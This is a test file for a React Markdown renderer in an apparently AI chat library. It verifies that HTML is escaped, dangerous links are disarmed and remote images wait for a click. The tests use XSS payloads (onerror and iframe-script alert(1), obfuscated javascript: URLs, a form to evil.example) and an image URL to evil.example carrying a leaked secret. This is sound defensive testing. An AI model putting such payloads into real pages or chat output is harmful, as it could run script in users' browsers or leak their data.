import { afterEach, describe, expect, it, vi } from 'vitest';
import { cleanup, fireEvent, render, screen } from '@testing-library/react';
import { renderToString } from 'react-dom/server';
import { MarkdownText, MessagesProvider } from '@oddkin/ai';

afterEach(cleanup);

describe('Markdown', () => {
  it.each([
    ['hello_world', 'hello_world'],
    ['MAX_RETRY_COUNT is 3', 'MAX_RETRY_COUNT is 3'],
    ['a \\_b', 'a _b'],
    ['- **', '**'],
    ['** __', '** __'],
    ['2 * 3 * 4', '2 * 3 * 4'],
    ['path/to/__init__', 'path/to/init'],
    ['It costs $5 and $10 today', 'It costs $5 and $10 today'],
    ['gives $0$ points, up to $m-1$', 'gives $0$ points, up to $m-1$'],
    ['export PATH=$HOME/bin:$PATH', 'export PATH=$HOME/bin:$PATH'],
  ])('shows of %j only characters that were sent', (text, visible) => {
    expect(show(text).textContent.trim()).toBe(visible);
  });

  it('keeps what is in code as it was written, at every prefix', () => {
    const text = 'Query:\n\n```sql\nSELECT * WHERE $__timeFilter(ts)\n```\n\nand\n\n```js\nconsole.log(`Hello ${World}!`);\n```'; // eslint-disable-line no-template-curly-in-string
    const { container, rerender } = render(<MarkdownText text="" />);
    for (let end = 1; end <= text.length; end += 1) {
      rerender(<MarkdownText text={text.slice(0, end)} />);
      for (const pre of container.querySelectorAll('pre')) expect(text).toContain(pre.textContent);
    }
    expect([...container.querySelectorAll('pre')].map((pre) => pre.textContent)).toEqual([
      'SELECT * WHERE $__timeFilter(ts)',
      'console.log(`Hello ${World}!`);', // eslint-disable-line no-template-curly-in-string
    ]);
  });

  it.each([
    '<p><b</p>',
    '<simd>8 lanes</simd>',
    '</p><</div>/span>/div><button onClick=alert(1)>',
    'Vec<String> and a<b && c>d',
    '<think>plan</think>done',
    '<img src=x onerror=alert(1)>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<style>body{display:none}</style>',
    '<form action=//evil.example><input name=p>',
    '<a id=cookie name=location>',
    '<',
  ])('shows the HTML in %j as text', (text) => {
    const complaint = vi.spyOn(console, 'error');
    const container = show(text);
    expect(container.textContent).toBe(text);
    expect(container.querySelector('img, iframe, style, form, simd, think, b, a, [onclick], [onerror]')).toBeNull();
    expect(complaint).not.toHaveBeenCalled();
    complaint.mockRestore();
  });

  it.each([
    ['5,000 quotes', `${'>'.repeat(5_000)} x`],
    ['20,000 brackets', '['.repeat(20_000)],
    ['a million letters', 'a'.repeat(1_000_000)],
  ])('shows %s as plain text', (_, text) => {
    expect(show(text).querySelector('p')?.textContent).toBe(text);
  });

  it.each([
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](<java&Tab;script:alert(1)>)',
    '[x][r]\n\n[r]: javascript:alert(1)',
    '<javascript:alert(1)>',
    '[x](data:text/html,1)',
    '[x](//evil.example/x)',
    '[x](https:evil.example)',
    '[x](https://user:pw@evil.example)',
  ])('makes no link of %j and keeps its words', (text) => {
    const container = show(text);
    expect(container.querySelector('a')).toBeNull();
    expect(container.textContent).toMatch(/^(x|javascript:alert\(1\)) \(not a link: /);
  });

  it.each([
    ['[x](https://example.test/a?b=1&c=2#d)', 'https://example.test/a?b=1&c=2#d'],
    ['<https://example.test/a_(b)>', 'https://example.test/a_(b)'],
    ['mail [me](mailto:a@example.test)', 'mailto:a@example.test'],
    ['[x](docs/readme.md)', 'docs/readme.md'],
  ])('links %j', (text, href) => {
    const link = show(text).querySelector('a');
    expect(link?.getAttribute('href')).toBe(href);
    expect(link?.rel).toBe('noopener noreferrer');
  });

  it('loads no picture before the reader asks for it, and names the host that would be called', () => {
    const container = show(
      '![a door](https://evil.example/p.png?leak=SECRET)\n\n![y][r]\n\n[r]: q.png\n\n[![z](https://evil.example/z.png)](https://ok.example)',
    );
    expect(container.querySelector('img')).toBeNull();
    fireEvent.click(screen.getByRole('button', { name: 'a door Load picture from evil.example' }));
    expect(container.querySelectorAll('img')).toHaveLength(1);
    expect(container.querySelector('img')?.outerHTML).toContain('alt="a door"');
    expect(container.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer');
  });

  it('writes no picture, no preload and no inline style on the server', () => {
    const html = renderToString(<MarkdownText text={'![x](https://evil.example/p.png)\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |'} />);
    expect(html).not.toMatch(/<img|<link|style=/);
    expect(html).toContain('data-align="right"');
  });

  it('keeps footnotes of two texts apart and leaves the address of the page alone', () => {
    const text = 'A[^1]\n\n[^1]: Note';
    const { container } = render(
      <>
        <MarkdownText text={text} />
        <MarkdownText text={text} />
      </>,
    );
    const ids = [...container.querySelectorAll('[id]')].map(({ id }) => id);
    expect(new Set(ids).size).toBe(ids.length);
    const [, second] = container.querySelectorAll<HTMLAnchorElement>('a[data-footnote-ref]');
    Element.prototype.scrollIntoView = () => undefined;
    expect(fireEvent.click(second!)).toBe(false);
    expect(document.activeElement).toBe(container.querySelectorAll('li')[1]);
  });

  it('leaves its blocks as they are when the page gives the same words anew', () => {
    const page = () => (
      <MessagesProvider messages={{ 'general.retry': 'Again' }}>
        <MarkdownText text={'One\n\n```\ntwo\n```'} />
      </MessagesProvider>
    );
    const { container, rerender } = render(page());
    const code = container.querySelector('pre');
    rerender(page());
    expect(code).not.toBeNull();
    expect(container.querySelector('pre')).toBe(code);
  });

  it('gives each block its own direction, and code none but left to right', () => {
    const container = show('مرحبا\n\n- one\n\n> two\n\n```\ncode\n```');
    for (const element of container.querySelectorAll('p, ul, blockquote')) expect(element.getAttribute('dir')).toBe('auto');
    expect(container.querySelector('pre')?.getAttribute('dir')).toBe('ltr');
  });

  it('puts headings below those of the page', () => {
    expect(show('# One').querySelector('h3')?.textContent).toBe('One');
  });

  it('names the boxes of a task list', () => {
    show('- [x] a\n- [ ] b');
    expect(screen.getByRole<HTMLInputElement>('checkbox', { name: 'Done' }).checked).toBe(true);
    expect(screen.getByRole<HTMLInputElement>('checkbox', { name: 'Not done' }).checked).toBe(false);
  });
});

function show(text: string): HTMLElement {
  return render(<MarkdownText text={text} />).container;
}
